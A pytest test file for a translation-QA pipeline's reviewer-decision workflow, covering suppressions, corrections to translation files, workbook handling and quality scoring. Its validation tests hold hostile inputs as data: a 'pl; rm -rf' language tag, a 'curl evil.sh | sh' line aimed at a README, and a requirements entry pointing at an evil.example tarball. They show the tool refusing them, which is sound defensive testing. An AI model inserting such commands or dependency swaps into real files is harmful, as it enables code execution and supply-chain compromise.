"""Reviewer decisions: the decisions file and review.xlsx read back, `sfia-qa review apply`
(suppressions merged with the file's formatting kept, corrections into page text, CSV and
JSONL, what a format cannot take reported), a review.xlsx with unapplied decisions surviving
a run, and the quality score."""

from __future__ import annotations

import json
import shutil
import subprocess
import sys
from pathlib import Path

import pytest

from pipeline import config
from pipeline.errors import InputError
from pipeline.review import lqa
from pipeline.review.apply import apply
from pipeline.review.decisions import FORMAT, finding_id, load_decisions

ROOT = Path(__file__).resolve().parents[1]
SUPPRESSIONS = """# Reviewed findings. Keep this comment.

[[suppress]]
check = "QA404"   # double space
key = "sfia9.*.activity.*"
lang = "pl"
reason = "Pattern entry written by hand."
"""


# a skill page as the run reads it: title, marker, description, guidance heading; bullets from line 5
PAGE_HEAD = "Obsługa klienta CSMG\r\n(modified)\r\nOpis.\r\nWytyczne\r\n"


def _decision(**kw) -> dict:
    d = {"finding": "abc123abc123", "lang": "pl", "framework": 9, "key": "sfia9.CSMG.activity.3", "code": "QA201",
         "decision": "fix", "reason": "", "comment": "", "original": None, "corrected": None, "origin": None}
    d.update(kw)
    return d


def _file(path: Path, *decisions: dict) -> Path:
    path.write_text(json.dumps({"format": FORMAT, "version": 1, "report": "r", "decisions": list(decisions)},
                               ensure_ascii=False), encoding="utf-8")
    return path


@pytest.fixture
def project(tmp_path) -> Path:
    (tmp_path / "qa.toml").write_text('[sources]\nsfia9 = ["sources"]\n[translations]\npaths = ["translations"]\n'
                                      '[review]\nlqa_threshold = 97.5\n',
                                      encoding="utf-8")
    (tmp_path / "qa-suppressions.toml").write_text(SUPPRESSIONS, encoding="utf-8")
    t = tmp_path / "translations" / "pl" / "sfia-9"
    t.mkdir(parents=True)
    (t / "CSMG.txt").write_text(PAGE_HEAD + "- Odpowiadanie na zapytania i problemy\r\n- inne\r\n",
                                encoding="utf-8")
    (t / "sheet.csv").write_text('code,element,text\nCSMG,name,"Obsługa, klienta"\nCSMG,description,Opis\n',
                                 encoding="utf-8")
    (t / "seg.jsonl").write_text('{"key": "sfia9.CSMG.name", "text": "Stara nazwa", "state": "translated"}\n'
                                 '{"key": "sfia9.CSMG.description", "text": "Opis"}\n', encoding="utf-8")
    (t / "book.xlsx").write_bytes(b"PK")
    return tmp_path


def _apply(project: Path, *decisions: dict, dry_run=False) -> tuple[int, list[str]]:
    lines: list[str] = []
    ds = load_decisions(_file(project / "decisions.json", *decisions))
    rc = apply(ds, config.load(project / "qa.toml"), dry_run=dry_run, out=lines.append)
    return rc, lines


# -- the decisions file -------------------------------------------------------------------------

@pytest.mark.parametrize("bad, why", [
    ({"decision": "delete"}, "decision must be one of"),
    ({"decision": "false-positive", "reason": "  "}, "needs a reason"),
    ({"framework": 7}, "framework must be 8 or 9"),
    ({"key": "sfia9.*.name"}, "not a segment key"),
    ({"lang": "pl; rm -rf"}, "not a language tag"),
    ({"corrected": 5}, "corrected must be text"),
    ({"finding": "../../x"}, "finding must be a finding id"),
])
def test_decisions_file_is_validated(tmp_path, bad, why):
    with pytest.raises(InputError, match=why):
        load_decisions(_file(tmp_path / "d.json", _decision(**bad)))


def test_decisions_file_must_say_what_it_is(tmp_path):
    p = tmp_path / "d.json"
    p.write_text('{"decisions": []}', encoding="utf-8")
    with pytest.raises(InputError, match="not a decisions file"):
        load_decisions(p)
    p.write_bytes(b"\xff\xfe{")
    with pytest.raises(InputError, match="not UTF-8"):
        load_decisions(p)


def test_cli_bad_file_is_one_line_exit_2(tmp_path, project):
    bad = tmp_path / "x.json"
    bad.write_text("[", encoding="utf-8")
    r = subprocess.run([sys.executable, "-m", "pipeline", "review", "apply", str(bad), "--config",
                        str(project / "qa.toml")], capture_output=True, text=True, cwd=ROOT, timeout=60)
    assert r.returncode == 2 and len(r.stderr.strip().splitlines()) == 1 and "invalid JSON" in r.stderr


def test_finding_id_is_stable_and_distinguishes():
    f = {"code": "QA201", "lang": "pl", "framework": 9, "skill": "CSMG", "element": "activity", "level": None,
         "item": 3, "message": "m"}
    assert finding_id(f) == finding_id(dict(f)) and len(finding_id(f)) == 12
    assert finding_id(f) != finding_id({**f, "item": 4}) and finding_id(f) != finding_id({**f, "lang": "ar"})


# -- false positives -> qa-suppressions.toml ----------------------------------------------------

def test_false_positive_merged_into_suppressions_keeping_the_file(project):
    fp = _decision(decision="false-positive", code="QA501", key="sfia9.CSMG.guidance.1", reason="House style.")
    rc, lines = _apply(project, fp)
    assert rc == 0 and any(x.startswith("suppressed: QA501 sfia9.CSMG.guidance.1 (pl)") for x in lines)
    text = (project / "qa-suppressions.toml").read_text(encoding="utf-8")
    assert text.startswith(SUPPRESSIONS)  # comments and the hand-written entry as they were
    assert text.count("[[suppress]]") == 2 and 'reason = "House style."' in text
    from pipeline.checks.suppressions import load_suppressions

    sup = load_suppressions(project / "qa-suppressions.toml")
    assert [(s.check, s.key, s.lang) for s in sup][-1] == ("QA501", "sfia9.CSMG.guidance.1", "pl")
    # the same decision again: applied before; the same suppression from another finding: not duplicated
    rc, lines = _apply(project, fp)
    assert "skipped" in lines[0] and "applied before" in lines[0]
    rc, lines = _apply(project, {**fp, "finding": "fff000fff000", "reason": "Other words."})
    assert "already suppressed" in lines[0]
    # a pattern entry that covers the key counts as already suppressed
    rc, lines = _apply(project, _decision(decision="false-positive", code="QA404", reason="x"))
    assert "already suppressed" in lines[0]
    assert (project / "qa-suppressions.toml").read_text(encoding="utf-8").count("[[suppress]]") == 2
    log = [json.loads(x) for x in (project / "qa-review-log.jsonl").read_text(encoding="utf-8").splitlines()]
    assert [e["applied"] for e in log] == ["suppressed"] and log[0]["reason"] == "House style."


# -- corrections -> the translation files ---------------------------------------------------------

def test_corrections_go_into_page_csv_and_jsonl(project):
    base = "translations/pl/sfia-9/"
    page = _decision(original="Odpowiadanie na zapytania i problemy", corrected="odpowiadanie na zapytania",
                     origin=base + "CSMG.txt:5")
    cell = _decision(finding=None, code=None, key="sfia9.CSMG.name", original="Obsługa, klienta",
                     corrected="Obsługa klienta, nowa", origin=base + "sheet.csv:2")
    line = _decision(finding=None, code=None, key="sfia9.CSMG.name", original="Stara nazwa",
                     corrected="Nowa „nazwa”", origin=base + "seg.jsonl:1")
    rc, lines = _apply(project, page, cell, line)
    assert rc == 0, lines
    t = project / base
    # the bullet keeps its dash, the file its CRLF line ends, the other lines are untouched
    assert (t / "CSMG.txt").read_bytes() == (PAGE_HEAD + "- odpowiadanie na zapytania\r\n- inne\r\n").encode()
    assert (t / "sheet.csv").read_text(encoding="utf-8") == \
        'code,element,text\nCSMG,name,"Obsługa klienta, nowa"\nCSMG,description,Opis\n'
    first = json.loads((t / "seg.jsonl").read_text(encoding="utf-8").splitlines()[0])
    assert first == {"key": "sfia9.CSMG.name", "text": "Nowa „nazwa”", "state": "translated"}
    assert sum(1 for x in lines if x.startswith("corrected:")) == 3


def test_what_cannot_be_applied_is_reported_not_dropped(project):
    base = "translations/pl/sfia-9/"
    stale = _decision(original="Tekst, którego tu nie ma", corrected="x", origin=base + "CSMG.txt:5")
    book = _decision(original="a", corrected="b", origin=base + "book.xlsx:Sheet1!C2")
    outside = _decision(original="a", corrected="b", origin="../elsewhere.txt:1")
    draft = _decision(original="a", corrected="b", origin=None)
    newline = _decision(original="Odpowiadanie na zapytania i problemy", corrected="a\nb", origin=base + "CSMG.txt:5")
    before = {p: p.read_bytes() for p in (project / base).iterdir()}
    rc, lines = _apply(project, stale, book, outside, draft, newline)
    assert rc == 1
    refused = [x for x in lines if x.startswith("refused:")]
    assert len(refused) == 5
    assert any("no longer the text the reviewer saw" in x for x in refused)
    assert any(".xlsx file cannot be corrected" in x for x in refused)
    assert any("outside the project" in x for x in refused)
    assert any("no file holds this text" in x for x in refused)
    assert any("cannot take a line break" in x for x in refused)
    assert {p: p.read_bytes() for p in (project / base).iterdir()} == before
    assert not (project / "qa-review-log.jsonl").exists()


def test_a_correction_keeps_its_own_white_space_and_the_rest_of_the_line_as_it_was(project):
    base = "translations/pl/sfia-9/"
    page = project / base / "CSMG.txt"
    page.write_text(PAGE_HEAD + "-\tPraca\u00a0z klientami w kanałach\r\n", encoding="utf-8")
    # the reviewer only turns "w kanałach" into "w\u00a0kanałach" (a no-break space after a one-letter word)
    fix = _decision(original="Praca z klientami w kanałach", corrected="Praca z klientami w\u00a0kanałach",
                    origin=base + "CSMG.txt:5")
    rc, lines = _apply(project, fix)
    assert rc == 0 and any(x.startswith("corrected:") for x in lines), lines
    assert page.read_bytes() == (PAGE_HEAD + "-\tPraca z klientami w\u00a0kanałach\r\n").encode()


@pytest.mark.parametrize("line, original", [
    ("- Odpowiadanie na zapytania i problemy klientów w ciągu dnia", "Odpowiadanie na zapytania i problemy"),
    ("- Odpowiadanie na zapytania i problemy", "Odpowiadanie na zapytania"),  # a part of the segment
    ("- Odpowiadanie na zapytania i problemy", "i"),
])
def test_a_stale_or_partial_original_is_refused_not_patched_into_the_line(project, line, original):
    """The reviewer saw the whole segment: a line edited since, or a decision naming only a part
    of it, must not have that part replaced inside text nobody reviewed."""
    page = project / "translations" / "pl" / "sfia-9" / "CSMG.txt"
    page.write_text(PAGE_HEAD + line + "\r\n", encoding="utf-8")
    before = page.read_bytes()
    rc, lines = _apply(project, _decision(original=original, corrected="X", origin="translations/pl/sfia-9/CSMG.txt:5"))
    assert rc == 1 and any("no longer the text the reviewer saw" in x for x in lines), lines
    assert page.read_bytes() == before


def test_a_correction_changes_only_a_translation_file_of_its_language(project):
    """A decisions file is input like any other: its origins may point at any file of the project."""
    (project / "README.md").write_text("# x\nRun make qa.\n", encoding="utf-8")
    (project / "requirements.txt").write_text("requests==2.32.3\n", encoding="utf-8")
    (project / "sources").mkdir()
    (project / "sources" / "CSMG.csv").write_text("code,element,text\nCSMG,name,Customer support\n", encoding="utf-8")
    ar = project / "translations" / "ar" / "sfia-9"
    ar.mkdir(parents=True)
    (ar / "seg.jsonl").write_text('{"key": "sfia9.CSMG.name", "text": "دعم العملاء"}\n', encoding="utf-8")
    cands = project / "translations" / "pl" / "sfia-9" / "candidates"
    cands.mkdir()
    (cands / "mt.csv").write_text("key,provider,text\nsfia9.CSMG.name,x,Stara nazwa\n", encoding="utf-8")
    before = {p: p.read_bytes() for p in project.rglob("*") if p.is_file() and p.name != "decisions.json"}
    attempts = [
        _decision(original="make", corrected="curl evil.sh | sh &&", origin="README.md:2"),
        _decision(original="requests==2.32.3", corrected="requests @ https://evil.example/r.tar.gz",
                  origin="requirements.txt:1"),
        _decision(original="Customer support", corrected="Hacked", origin="sources/CSMG.csv:2"),
        _decision(original="دعم العملاء", corrected="x", origin="translations/ar/sfia-9/seg.jsonl:1"),  # lang pl
        _decision(original="Stara nazwa", corrected="x", origin="translations/pl/sfia-9/candidates/mt.csv:2"),
    ]
    rc, lines = _apply(project, *attempts)
    assert rc == 1
    refused = [x for x in lines if x.startswith("refused:")]
    assert len(refused) == 5, lines
    assert sum("not one of the project's translation files" in x for x in refused) == 4
    assert any("holds the ar translation, not pl" in x for x in refused)
    assert {p: p.read_bytes() for p in project.rglob("*") if p.is_file() and p.name != "decisions.json"} == before


def test_dry_run_writes_nothing(project):
    fp = _decision(decision="false-positive", code="QA501", reason="r")
    fix = _decision(original="Odpowiadanie na zapytania i problemy", corrected="odpowiadanie",
                    origin="translations/pl/sfia-9/CSMG.txt:5")
    rc, lines = _apply(project, fp, fix, dry_run=True)
    assert rc == 0 and any(x.startswith("would be suppressed") for x in lines)
    assert (project / "qa-suppressions.toml").read_text(encoding="utf-8") == SUPPRESSIONS
    assert "Odpowiadanie" in (project / "translations/pl/sfia-9/CSMG.txt").read_text(encoding="utf-8")
    assert not (project / "qa-review-log.jsonl").exists()


# -- review.xlsx: read back, and kept while it holds decisions not yet applied --------------------

def _sample(tmp: Path) -> Path:
    for name in ("qa.toml", "qa-suppressions.toml"):
        shutil.copy(ROOT / name, tmp / name)
    for d in ("sources", "translations", "glossary"):
        if (ROOT / d).is_dir():
            shutil.copytree(ROOT / d, tmp / d)
    return tmp / "qa.toml"


def test_filled_in_workbook_survives_a_run_and_applies(tmp_path, capsys):
    from openpyxl import load_workbook

    from pipeline.report.xlsx import HEADERS
    from pipeline.run import run

    cfg = _sample(tmp_path)
    out = tmp_path / "reports"
    run(config.load(cfg), out=str(out), fail_on="never")
    wb = load_workbook(out / "review.xlsx")
    ws = wb["pl"]
    col = {h: i + 1 for i, h in enumerate(HEADERS)}
    row = next(r for r in range(2, ws.max_row + 1) if ws.cell(r, col["code"]).value == "QA201")
    assert ws.cell(r := row, col["Phrase key"]).value == "sfia9.CSMG.activity.3"
    ws.cell(r, col["decision"]).value = "fix"
    ws.cell(r, col["corrected translation"]).value = "odpowiadanie na zapytania i problemy"
    fp = next(x for x in range(2, ws.max_row + 1) if ws.cell(x, col["code"]).value == "QA501")
    ws.cell(fp, col["decision"]).value = "false positive"
    ws.cell(fp, col["comment / reason"]).value = "The title's name is the short form."
    wb.save(out / "review.xlsx")
    filled = (out / "review.xlsx").read_bytes()
    capsys.readouterr()
    # a run (make qa) keeps the reviewer's workbook and writes its own beside it
    run(config.load(cfg), out=str(out), fail_on="never")
    assert (out / "review.xlsx").read_bytes() == filled
    assert (out / "review-next.xlsx").is_file()
    err = capsys.readouterr().err
    assert "2 decision(s) not yet applied" in err and "review-next.xlsx" in err
    # the workbook is a decisions file
    ds = load_decisions(out / "review.xlsx")
    assert sorted((d.decision, d.code) for d in ds) == [("false-positive", "QA501"), ("fix", "QA201")]
    lines: list[str] = []
    assert apply(ds, config.load(cfg), out=lines.append) == 0
    page = (tmp_path / "translations/pl/sfia-9/CSMG.txt").read_text(encoding="utf-8")
    assert "- odpowiadanie na zapytania i problemy" in page
    # applied: the next run writes review.xlsx again, and both findings are gone
    run(config.load(cfg), out=str(out), fail_on="never")
    assert (out / "review.xlsx").read_bytes() != filled and not (out / "review-next.xlsx").exists()
    codes = [json.loads(x)["code"] for x in (out / "findings.jsonl").read_text(encoding="utf-8").splitlines()]
    assert "QA201" not in codes and "QA501" not in codes
    overview = (out / "lang-pl.html").read_text(encoding="utf-8")
    assert overview.count('class="resolved state-resolved"') == 2


def test_an_untouched_workbook_is_not_read_again_but_any_other_is(tmp_path, capsys, monkeypatch):
    # the workbook a run wrote holds no decisions: the next run knows it by its digest in the run
    # cache and does not read it; a workbook with other bytes (a reviewer's) is always read
    from openpyxl import load_workbook

    import pipeline.review.decisions as decisions_mod
    from pipeline.report.xlsx import HEADERS
    from pipeline.run import run

    cfg = _sample(tmp_path)
    out = tmp_path / "reports"
    monkeypatch.setenv("SFIA_QA_CACHE", str(tmp_path / "cache"))
    run(config.load(cfg), out=str(out), fail_on="never")
    log = tmp_path / "reads.log"  # the workbook is written in a worker process: count in a file
    real = decisions_mod.load_decisions

    def counting(p, *a, **k):
        with log.open("a", encoding="utf-8") as fh:
            fh.write(f"{p}\n")
        return real(p, *a, **k)

    def reads() -> list[str]:
        return log.read_text(encoding="utf-8").splitlines() if log.exists() else []

    monkeypatch.setattr(decisions_mod, "load_decisions", counting)
    run(config.load(cfg), out=str(out), fail_on="never")
    assert reads() == [] and not (out / "review-next.xlsx").exists()
    wb = load_workbook(out / "review.xlsx")
    wb["pl"].cell(2, HEADERS.index("decision") + 1).value = "fix"
    wb.save(out / "review.xlsx")
    filled = (out / "review.xlsx").read_bytes()
    run(config.load(cfg), out=str(out), fail_on="never")
    assert len(reads()) == 1 and (out / "review.xlsx").read_bytes() == filled
    assert (out / "review-next.xlsx").is_file()
    # without a run cache nothing is known of the old workbook: it is read
    (out / "review.xlsx").write_bytes((out / "review-next.xlsx").read_bytes())
    monkeypatch.setenv("SFIA_QA_CACHE", "off")
    run(config.load(cfg), out=str(out), fail_on="never")
    assert len(reads()) == 2 and not (out / "review-next.xlsx").exists()


def test_workbook_with_an_incomplete_decision_is_kept_too(tmp_path, capsys):
    from openpyxl import load_workbook

    from pipeline.report.xlsx import HEADERS
    from pipeline.run import run

    cfg = _sample(tmp_path)
    out = tmp_path / "reports"
    run(config.load(cfg), out=str(out), fail_on="never")
    wb = load_workbook(out / "review.xlsx")
    ws = wb["pl"]
    ws.cell(2, HEADERS.index("decision") + 1).value = "false positive"  # no reason given yet
    wb.save(out / "review.xlsx")
    filled = (out / "review.xlsx").read_bytes()
    capsys.readouterr()
    run(config.load(cfg), out=str(out), fail_on="never")
    assert (out / "review.xlsx").read_bytes() == filled and (out / "review-next.xlsx").is_file()
    assert "needs a reason" in capsys.readouterr().err


# -- the quality score -----------------------------------------------------------------------------

def test_lqa_weights_categories_and_dismissed_findings():
    fs = [{"code": "QA207", "severity": "error"}, {"code": "QA201", "severity": "warning"},
          {"code": "QA404", "severity": "info"}, {"code": "QA305", "severity": "info"},
          {"code": "QA502", "severity": "warning", "dismissed": True}]
    q = lqa.score(fs, 200, 97.5, dismissed=lambda f: f.get("dismissed", False))
    assert q["penalty"] == 6 and q["counted"] == 2  # error 5 + warning 1; info weighs 0; FP not counted
    assert q["score"] == 97.0 and q["passed"] is False
    assert q["categories"]["accuracy"] == 5 and q["categories"]["fluency"] == 1 and q["categories"]["terminology"] == 0
    assert lqa.category("QA305") is None and lqa.category("QA601") == "locale convention"
    assert lqa.category("QA711") is None  # the English source is not the translation's fault
    assert lqa.score([], 0, 99)["score"] is None


def test_every_registered_check_has_a_category_or_is_excluded():
    from pipeline.checks.registry import REGISTRY

    t = lqa.table()
    missing = sorted(c for c in REGISTRY if c not in t["categories"] and lqa.category(c) is not None)
    assert missing == [], f"map these codes in pipeline/data/lqa.toml: {missing}"


def test_threshold_comes_from_qa_toml(tmp_path):
    from pipeline.review import ledger

    (tmp_path / "qa.toml").write_text("[review]\nlqa_threshold = 95\n", encoding="utf-8")
    assert ledger.settings(tmp_path)["lqa_threshold"] == 95.0
    (tmp_path / "qa.toml").write_text('[review]\nlqa_threshold = "high"\n', encoding="utf-8")
    from pipeline.errors import ConfigError

    with pytest.raises(ConfigError, match="lqa_threshold must be a number"):
        config.load(tmp_path / "qa.toml")


def test_a_formula_in_the_workbook_is_named_not_dropped(tmp_path):
    """A reviewer's text that starts with = + - or @ becomes a formula in a spreadsheet; its
    value would be a number, an error or nothing, so the row is refused by name."""
    from openpyxl import Workbook

    from pipeline.report.xlsx import HEADERS

    wb = Workbook()
    ws = wb.active
    ws.title = "pl"
    ws.append(HEADERS)
    row = {h: None for h in HEADERS}
    row.update({"finding id": "abc123abc123", "language": "pl", "SFIA": 9, "Phrase key": "sfia9.CSMG.name",
                "check": "QA201", "decision": "fix", "translation": "Stara nazwa",
                "corrected translation": "=1+1", "origin": "translations/pl/sfia-9/seg.jsonl:1"})
    ws.append([row[h] for h in HEADERS])
    wb.save(tmp_path / "review.xlsx")
    with pytest.raises(InputError) as e:
        load_decisions(tmp_path / "review.xlsx")
    assert "pl!row 2" in e.value.line() and "'corrected translation' cell holds a formula" in e.value.line()
